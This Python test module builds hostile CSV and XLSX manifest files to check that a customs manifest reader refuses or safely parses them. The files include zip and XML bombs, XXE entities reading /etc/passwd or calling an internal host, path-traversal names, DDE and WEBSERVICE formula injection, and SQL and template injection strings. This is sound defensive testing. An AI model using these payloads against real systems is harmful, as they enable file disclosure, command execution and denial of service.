"""Hostile manifests, built on the spot: name -> (file name, content, what must come of it).

What must come is the code of the refusal, or "read": items and errors with counts that add up. Run as a script
it reads every one of them under a memory limit and prints a line of JSON for each.
"""

import gzip
import io
import json
import resource
import struct
import sys
import time
import zipfile
from collections.abc import Callable

GOOD = "CP473124829DE"
HEADER = "tracking_id,description,hts,origin,quantity,net_weight_kg,value,currency,arrival_date"
NAMES = HEADER.split(",")
ROW = f"{GOOD},cotton T-shirt,6109100012,BD,2,0.4,24.00,USD,2026-10-03"
CELLS = ROW.split(",")
MEMORY = 900 << 20  # bytes of address space for the whole run, interpreter and libraries included
SECONDS = 20  # of one core for one file
MB = 1 << 20

Make = Callable[[], bytes | str]
HOSTILE: dict[str, tuple[str, str, Make]] = {}  # name -> (file name, what must come of it, how it is made)


def file(name: str, outcome: str, file_name: str = "m.csv") -> Callable[[Make], None]:
    def keep(make: Make) -> None:
        assert name not in HOSTILE, name
        HOSTILE[name] = (file_name, outcome, make)

    return keep


def text(name: str, outcome: str, content: bytes | str, file_name: str = "m.csv") -> None:
    file(name, outcome, file_name)(lambda: content)


def book(name: str, outcome: str, make: Callable[[], bytes]) -> None:
    file(name, outcome, "m.xlsx")(make)


def rows(*lines: str) -> str:
    return "\n".join((HEADER, *lines, ""))


def with_cell(column: str, cell: str) -> str:
    """A manifest of three rows whose middle one holds this cell."""
    bad = list(CELLS)
    bad[NAMES.index(column)] = '"' + cell.replace('"', '""') + '"'
    return rows(ROW, ",".join(bad), ROW)


# --- workbooks
def _sheets() -> None:
    from sheets import raw_workbook, row_xml, sheet_xml

    head, data = row_xml(1, *NAMES), row_xml(2, *CELLS)
    plain = sheet_xml(head, data)
    corrupt, large, unsafe = (f"MANIFEST_WORKBOOK_{what}" for what in ("CORRUPT", "TOO_LARGE", "UNSAFE"))

    def sheet(name: str, outcome: str, *lines: str) -> None:
        book(name, outcome, lambda: raw_workbook(sheet_xml(*lines)))

    def part(name: str, outcome: str, place: str, content: str | bytes) -> None:
        book(name, outcome, lambda: raw_workbook(plain, {place: content}))

    def cell(name: str, outcome: str, xml: str) -> None:
        cells = [*CELLS[:6], xml, *CELLS[7:]]
        sheet(name, outcome, head, row_xml(2, *cells), row_xml(3, *CELLS))

    # bombs
    blow = sheet_xml(head, " " * (64 * MB))
    book("xlsx bomb of blanks", unsafe, lambda: raw_workbook(blow))
    book(
        "xlsx bomb of cells",
        unsafe,
        lambda: raw_workbook(sheet_xml(head, *['<row><c s="1"/></row>'] * 1_500_000)),
    )
    book(
        "xlsx bomb of texts",
        unsafe,
        lambda: raw_workbook(plain, {"xl/sharedStrings.xml": f"<sst><si><t>{'a' * 48 * MB}</t></si></sst>"}),
    )
    book(
        "xlsx bomb in styles",
        unsafe,
        lambda: raw_workbook(plain, {"xl/styles.xml": "<styleSheet>" + " " * 24 * MB + "</styleSheet>"}),
    )
    book(
        "xlsx stored blanks",
        large,
        lambda: raw_workbook(
            plain,
            {"xl/styles.xml": "<styleSheet>" + " " * 9 * MB + "</styleSheet>"},
            compression=zipfile.ZIP_STORED,
        ),
    )
    book(
        "xlsx size claimed 4 GB",
        large,
        lambda: _claim(raw_workbook(plain), "xl/worksheets/sheet1.xml", 0xFFFFFFF0),
    )
    book(
        "xlsx size claimed 100 bytes",
        corrupt,
        lambda: _claim(raw_workbook(plain), "xl/worksheets/sheet1.xml", 100),
    )
    book(
        "xlsx of 3,000 parts",
        large,
        lambda: raw_workbook(plain, {f"xl/media/{n}.png": b"x" for n in range(3000)}),
    )
    book(
        "xlsx of 150 sheets",
        large,
        lambda: raw_workbook(plain, sheets="".join(f'<sheet name="s{n}" r:id="rId1"/>' for n in range(150))),
    )
    book("xlsx parts that overlap", "any", lambda: _overlapping(raw_workbook(plain)))
    book(
        "xlsx in an xlsx in an xlsx",
        "read",
        lambda: raw_workbook(
            plain,
            {"xl/embeddings/a.xlsx": raw_workbook(plain, {"xl/embeddings/b.xlsx": raw_workbook(plain)})},
        ),
    )
    # names of parts
    for place in ("../../etc/passwd", "/etc/passwd", "C:\\x", "xl\\worksheets\\x.xml", "xl/../../x", "a\nb"):
        part(f"xlsx part named {place!r}", unsafe, place, "x")
    book(
        "xlsx part named with NUL",
        unsafe,
        lambda: raw_workbook(plain, {"xl/a__b": "x"}).replace(b"xl/a__b", b"xl/a\0\0b"),
    )
    part("xlsx two parts that differ in case", unsafe, "XL/Workbook.xml", "<workbook/>")
    book(
        "xlsx two parts of one name",
        unsafe,
        lambda: raw_workbook(plain, {"xl/workbook.xmm": "x"}).replace(b"xl/workbook.xmm", b"xl/workbook.xml"),
    )
    # what it holds
    book("xlsx encrypted in place", "MANIFEST_WORKBOOK_ENCRYPTED", lambda: _flagged(raw_workbook(plain)))
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)
    book(
        "xlsx with a password",
        "MANIFEST_WORKBOOK_ENCRYPTED",
        lambda: ole + "EncryptedPackage".encode("utf-16-le") + bytes(2048),
    )
    text("xls", "MANIFEST_BINARY", ole + bytes(4096), "m.csv")
    part("xlsx with macros", "MANIFEST_WORKBOOK_MACROS", "xl/vbaProject.bin", b"x")
    part("xlsx with macro sheets", "MANIFEST_WORKBOOK_MACROS", "xl/macrosheets/sheet1.xml", "<x/>")
    part("xlsx with external links", "MANIFEST_WORKBOOK_LINKS", "xl/externalLinks/externalLink1.xml", "<x/>")
    outside = '<Relationship Id="rId9" Type="x/externalLink" Target="http://10.0.0.1/a.xlsx" TargetMode="External"/>'
    book(
        "xlsx related to the outside",
        "MANIFEST_WORKBOOK_LINKS",
        lambda: raw_workbook(plain, relations=outside),
    )
    book(
        "xlsx that refers to other books",
        "MANIFEST_WORKBOOK_LINKS",
        lambda: raw_workbook(plain, sheets='<sheet name="a" r:id="rId1"/><externalReference/>'),
    )
    for kind, place in (
        ("xlsb", "xl/workbook.bin"),
        ("ods", "mimetype"),
        ("docx", "word/document.xml"),
        ("pptx", "ppt/presentation.xml"),
        ("zip", "a.txt"),
    ):
        book(f"{kind} called xlsx", "MANIFEST_BINARY", lambda place=place: _archive({place: "x"}))  # type: ignore[misc]
    book("xlsx without parts", "MANIFEST_BINARY", lambda: _archive({}))
    # XML
    dtd = (
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY a{n} "{"&a" + str(n - 1) * (n > 0) + ";"}">' for n in range(1, 9))
        + "]>"
    )
    book("xlsx sheet with a document type", unsafe, lambda: raw_workbook(dtd + plain))
    book(
        "xlsx sheet with a document type in UTF-16",
        unsafe,
        lambda: raw_workbook(('<?xml version="1.0" encoding="UTF-16"?>' + dtd + plain).encode("utf-16")),
    )
    part(
        "xlsx texts with entities that multiply",
        unsafe,
        "xl/sharedStrings.xml",
        dtd + "<sst><si><t>&a8;</t></si></sst>",
    )
    part(
        "xlsx texts that ask for a file",
        unsafe,
        "xl/sharedStrings.xml",
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst><si><t>&a;</t></si></sst>',
    )
    part(
        "xlsx styles that ask the network",
        unsafe,
        "xl/styles.xml",
        '<!DOCTYPE x SYSTEM "http://10.0.0.1/x.dtd"><styleSheet/>',
    )
    book(
        "xlsx tags nested 20,000 deep",
        unsafe,
        lambda: raw_workbook(sheet_xml(head, "<a>" * 20_000 + "</a>" * 20_000)),
    )
    book(
        "xlsx one endless attribute",
        unsafe,
        lambda: raw_workbook(sheet_xml(head, f'<row r="{_noise(6 * MB)}"/>')),
    )
    book(
        "xlsx one endless comment",
        unsafe,
        lambda: raw_workbook(sheet_xml(head, f"<!-- {_noise(6 * MB)} -->")),
    )
    book("xlsx cut off in a cell", corrupt, lambda: raw_workbook(plain[:-60]))
    book(
        "xlsx that is not UTF-8",
        corrupt,
        lambda: raw_workbook(plain.encode().replace(b"cotton", b"\xff\xfe\xfa")),
    )
    book(
        "xlsx of an unknown encoding",
        corrupt,
        lambda: raw_workbook('<?xml version="1.0" encoding="ebcdic-x"?>' + plain),
    )
    book("xlsx whose sheet is a picture", corrupt, lambda: raw_workbook(b"\x89PNG\r\n" + bytes(500)))
    # the archive
    book("xlsx cut in half", corrupt, lambda: (b := raw_workbook(plain))[: len(b) // 2])
    book(
        "xlsx with a wrong checksum",
        corrupt,
        lambda: _bad_checksum(raw_workbook(plain, compression=zipfile.ZIP_STORED)),
    )
    book("xlsx packed as LZMA", corrupt, lambda: raw_workbook(plain, compression=zipfile.ZIP_LZMA))
    book(
        "xlsx whose sheet is not there",
        corrupt,
        lambda: raw_workbook(plain, sheets='<sheet name="a" r:id="rId7"/>'),
    )
    book(
        "xlsx whose sheet is elsewhere",
        corrupt,
        lambda: raw_workbook(
            plain,
            sheets='<sheet name="a" r:id="rId8"/>',
            relations='<Relationship Id="rId8" Target="../../../etc/passwd"/>',
        ),
    )
    book("xlsx without sheets", corrupt, lambda: raw_workbook(plain, {"xl/workbook.xml": "<workbook/>"}))
    book(
        "xlsx with hidden sheets only",
        "MANIFEST_NOT_RECOGNISED",
        lambda: raw_workbook(plain, sheets='<sheet name="a" state="veryHidden" r:id="rId1"/>'),
    )
    part(
        "xlsx styles that are no numbers",
        corrupt,
        "xl/styles.xml",
        '<styleSheet><cellXfs><xf numFmtId="many"/></cellXfs></styleSheet>',
    )
    part(
        "xlsx styles beyond numbers",
        "read",
        "xl/styles.xml",
        f'<styleSheet><cellXfs><xf numFmtId="{"9" * 300}"/></cellXfs></styleSheet>',
    )
    # places
    for number in ("99999999999", "1048577", "-1", "0", "1", "2x", ""):
        sheet(f"xlsx row said to be {number!r}", corrupt, head, data.replace('r="2"', f'r="{number}"'))
    for place in ("A3", "2A", "ZZZZ2", "a2", "", "A-2"):
        outcome = "read" if place == "" else corrupt
        sheet(f"xlsx cell said to be {place!r}", outcome, head, data.replace("<c ", f'<c r="{place}" ', 1))
    sheet(
        "xlsx cells out of order",
        corrupt,
        head,
        '<row r="2"><c r="C2"><v>1</v></c><c r="A2"><v>1</v></c></row>',
    )
    sheet("xlsx cell in the last column", large, head, '<row r="2"><c r="XFD2"><v>1</v></c></row>')
    sheet("xlsx row in the last place", "read", head, data, row_xml(1_048_576, *CELLS))
    book(
        "xlsx that claims a million rows",
        "read",
        lambda: raw_workbook(plain.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')),
    )
    # cells
    cell(
        "xlsx cell of five million characters",
        "read",
        f'<c t="inlineStr"><is><t>{_noise(5 * MB)}</t></is></c>',
    )
    book(
        "xlsx text of five million characters",
        "read",
        lambda: raw_workbook(
            sheet_xml(head, row_xml(2, *CELLS[:6], '<c t="s"><v>0</v></c>', *CELLS[7:])),
            {"xl/sharedStrings.xml": f"<sst><si><t>{_noise(3 * MB)}</t></si></sst>"},
        ),
    )
    cell("xlsx text that is not there", corrupt, '<c t="s"><v>7</v></c>')
    cell("xlsx text before the first", corrupt, '<c t="s"><v>-1</v></c>')
    cell("xlsx number of 5,000 digits", "read", f"<c><v>{'9' * 5000}</v></c>")
    cell("xlsx number beyond numbers", "read", "<c><v>1e999999</v></c>")
    cell("xlsx number that is a word", "read", "<c><v>__import__('os')</v></c>")
    cell("xlsx style beyond styles", "read", f'<c s="{"9" * 400}"><v>5</v></c>')
    cell("xlsx kind of cell nobody knows", "read", '<c t="zz"><v>5</v></c>')
    cell("xlsx half a character by name", "read", '<c t="str"><v>_xD800_</v></c>')
    cell("xlsx NUL by name", "read", '<c t="str"><v>_x0000_</v></c>')
    for formula in ("cmd|' /C calc'!A0", "WEBSERVICE(&quot;http://10.0.0.1&quot;)", "1/0"):
        cell(f"xlsx formula {formula}", "read", f"<c><f>{formula}</f></c>")
    cell("xlsx text that is a formula", "read", "<c t=\"str\"><v>=cmd|' /C calc'!A0</v></c>")


def _claim(content: bytes, name: str, size: int) -> bytes:
    """The archive with another unpacked size in its directory, and in the header of the part."""
    out = bytearray(content)
    place = out.rindex(b"PK\x01\x02", 0, out.rindex(name.encode()))
    out[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(out)


def _flagged(content: bytes) -> bytes:
    out = bytearray(content)
    place = -1
    while (place := out.find(b"PK\x01\x02", place + 1)) >= 0:
        out[place + 8] |= 1
    return bytes(out)


def _overlapping(content: bytes) -> bytes:
    """Every part of the directory points to the place of the first."""
    out = bytearray(content)
    place = -1
    while (place := out.find(b"PK\x01\x02", place + 1)) >= 0:
        out[place + 42 : place + 46] = b"\0\0\0\0"
    return bytes(out)


def _bad_checksum(content: bytes) -> bytes:
    return content.replace(b"cotton T-shirt", b"cotton T-shorn")


def _archive(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _noise(size: int) -> str:
    """Letters that do not pack well."""
    import random

    return random.Random(1).randbytes(size // 2).hex()


# --- text
def _texts() -> None:
    for kind, magic in (
        ("pdf", b"%PDF-1.7"),
        ("png", b"\x89PNG"),
        ("sqlite", b"SQLite format 3\0"),
        ("parquet", b"PAR1"),
    ):
        text(f"{kind} called csv", "MANIFEST_BINARY", magic + bytes(range(256)) * 20)
    file("gzip bomb called csv", "MANIFEST_BINARY")(lambda: gzip.compress(bytes(20 * MB)))
    text("NULs throughout", "read", rows(*[ROW.replace("c", "\0")] * 20).replace("\n", "\r\n"))
    text("only NULs", "MANIFEST_BINARY", bytes(100_000))
    for column in NAMES:
        text(f"formula in {column}", "read", with_cell(column, "=cmd|' /C calc'!A0"))
    for sign in ("+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://10.0.0.1/"&A1)'):
        text(f"cell {sign!r}", "read", with_cell("description", sign))
    file("cell of eight million characters", "read")(lambda: with_cell("description", "x" * 8_000_000))
    file("cells of 9,990 characters, 800 of them", "read")(
        lambda: rows(*(ROW.replace("cotton", f"{n} " + "ab " * 3300) for n in range(800)))
    )
    file("numbers of 9,990 characters, 300 of them", "read")(
        lambda: rows(*(ROW.replace(",2,", "," + "1" + " " * 9900 + f"{n}!,") for n in range(300)))
    )
    file("tariff numbers, 900 in a cell", "read")(
        lambda: with_cell("hts", ";".join(str(6109100000 + n) for n in range(900)))
    )
    file("totals of 9,000 blanks", "read")(lambda: rows(ROW, *["total" + " " * 9000 + "!,,,,,,,,"] * 200))
    file("a quote that never closes, 20,000 lines", "read")(
        lambda: rows(ROW, ROW.replace("cotton", '"cotton'), *[ROW] * 3000)
    )
    file("quotes that open on every line", "read")(lambda: rows(ROW, *['a","c'] * 30_000))
    file("nothing but quotes", "MANIFEST_NOT_RECOGNISED")(lambda: '"' * MB)
    file("a line of ten million characters", "MANIFEST_NOT_RECOGNISED")(lambda: "x" * 10_000_000)
    file("a million delimiters in a row", "read")(
        lambda: rows(ROW, "," * 1_000_000, ROW + "," * 1_000_000, ROW)
    )
    file("a header of 50,000 columns", "MANIFEST_NOT_RECOGNISED")(
        lambda: ",".join(f"tracking_id{n}" for n in range(50_000)) + "\n1,2\n"
    )
    file("a header of 400 values", "read")(
        lambda: HEADER + ",value" * 400 + "\n" + ROW + ",24.00" * 400 + "\n"
    )
    file("half a million blank lines", "read")(lambda: rows(ROW) + "\n" * 500_000)
    file("a header and blank lines", "MANIFEST_HEADER_ONLY")(lambda: rows() + "\n" * 200_000)
    file("a header thirty thousand times", "MANIFEST_HEADER_ONLY")(lambda: rows(*[HEADER] * 30_000))
    file("totals, twenty thousand", "read")(lambda: rows(ROW, *["TOTAL,,,,,,1.00,USD,"] * 20_000))
    text(
        "delimiters that change",
        "read",
        rows(ROW, ROW.replace(",", ";"), ROW.replace(",", "\t"), ROW.replace(",", "|")),
    )
    text(
        "delimiters of four kinds in the header",
        "any",
        f"tracking_id,value;currency\tdescription|hts\n{ROW}\n",
    )
    text("columns that repeat and differ", "read", f"{HEADER},value,tracking_id\n{ROW},25.00,LX123456785GB\n")
    text("columns that repeat and agree", "read", f"{HEADER},value,tracking_id\n{ROW},24.00,{GOOD}\n")
    text(
        "names turned around by unseen signs",
        "any",
        rows(ROW).replace("value", "\u202eeulav\u202c").replace("hts", "h\u200bts"),
    )
    text("tracking number of 9,000 characters", "read", with_cell("tracking_id", "A" * 9000))
    text("digits of other scripts", "read", with_cell("value", "١٢٣٫٤٥"))
    text("tariff number of other digits", "read", with_cell("hts", "６１０９１０００１２"))
    for number in (
        "1e999999",
        "Infinity",
        "NaN",
        "0x1F",
        "1_000",
        "9" * 400,
        "-0",
        "+",
        ".",
        "((((1))))",
        "1.2.3,4",
        "½",
        "1,2,3,4,5",
    ):
        text(f"value {number[:12]}", "read", with_cell("value", number))
    for day in (
        "0000-00-00",
        "9999-99-99",
        "99999999999",
        "2026-10-03T25:61:61",
        "29 Feb 2026",
        "1/1/1",
        "٢٠٢٦-١٠-٠٣",
    ):
        text(f"day {day}", "read", with_cell("arrival_date", day))
    text("half characters", "read", rows(ROW.replace("cotton", "X")).encode().replace(b"X", b"\xed\xa0\x80"))
    text("overlong UTF-8", "read", rows(ROW.replace("cotton", "X")).encode().replace(b"X", b"\xc0\xaf"))
    text("UTF-16 cut off", "MANIFEST_ENCODING", rows(ROW).encode("utf-16")[:-1])
    text("UTF-32 with half a mark", "any", b"\xff\xfe\x00\x00" + rows(ROW).encode("utf-16-le"))
    text("marks of three encodings", "any", b"\xef\xbb\xbf\xff\xfe" + rows(ROW).encode())
    text("control characters", "any", rows(ROW.replace("cotton", "\x1b[2J\x07\x08cotton")))
    text(
        "line ends of other kinds",
        "read",
        rows(ROW, ROW.replace("cotton", "a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g")),
    )
    text("carriage returns only", "read", rows(ROW, ROW).replace("\n", "\r"))
    for name in (
        "../../etc/passwd.csv",
        "/etc/shadow.csv",
        "a\0b.csv",
        "x" * 5000 + ".csv",
        "a\nb.csv",
        "=cmd()|.csv",
        "\u202evsc.csv",
        ".",
    ):
        text(f"file named {name[:20]!r}", "read", rows(ROW), name)
    text(
        "file with a long name that is no manifest",
        "MANIFEST_BINARY",
        bytes(100) + b"x",
        "../" * 3000 + "x" * 5000,
    )
    text("file named after a program", "MANIFEST_EXTENSION", rows(ROW), "run.exe")
    text("a script called csv", "MANIFEST_NOT_RECOGNISED", "<script>alert(1)</script>\n" * 50)
    text("SQL in a cell", "read", with_cell("description", "'; DROP TABLE items; --"))
    text(
        "a template in a cell",
        "read",
        with_cell("description", "{{7*7}} ${7*7} <%= 7 %> %s%n %(x)s {0.__class__}"),
    )


def build() -> None:
    """Fill HOSTILE."""
    if not HOSTILE:
        _sheets()
        _texts()


def outcome(file_name: str, content: bytes) -> str:
    """The code of the refusal, or "read" once every row is accounted for. Anything else raises."""
    from data.errors import MailDutyError
    from data.manifest import read_manifest

    try:
        reading = read_manifest(content, name=file_name)
    except MailDutyError as error:
        assert error.fact and len(str(error)) < 2000, f"{error.code} says {len(str(error))} characters"
        return error.code
    assert reading.rows_in == len(reading.items) + len(reading.errors) > 0
    assert reading.rows_seen == reading.rows_in + len(reading.skipped)
    for one in reading.errors:
        assert one.code and one.row and len(one.message) < 2000
    for item in reading.items:
        item.model_dump_json().encode()
    json.dumps([error.as_dict() for error in reading.errors]).encode()
    json.dumps([*reading.notes, *(doubt.fact for doubt in reading.doubts)], ensure_ascii=False).encode()
    return "read"


def main() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
    build()
    for name, (file_name, _, make) in HOSTILE.items():
        made = make()
        content = made.encode() if isinstance(made, str) else made
        began = time.process_time()
        try:
            met = outcome(file_name, content)
        except BaseException as error:  # MemoryError included: it is what the test looks for
            met = f"{type(error).__name__}: {error}"[:300]
        print(
            json.dumps(
                {"name": name, "met": met, "seconds": time.process_time() - began, "size": len(content)}
            ),
            flush=True,
        )


if __name__ == "__main__":
    sys.path[:0] = sys.argv[1:]
    main()
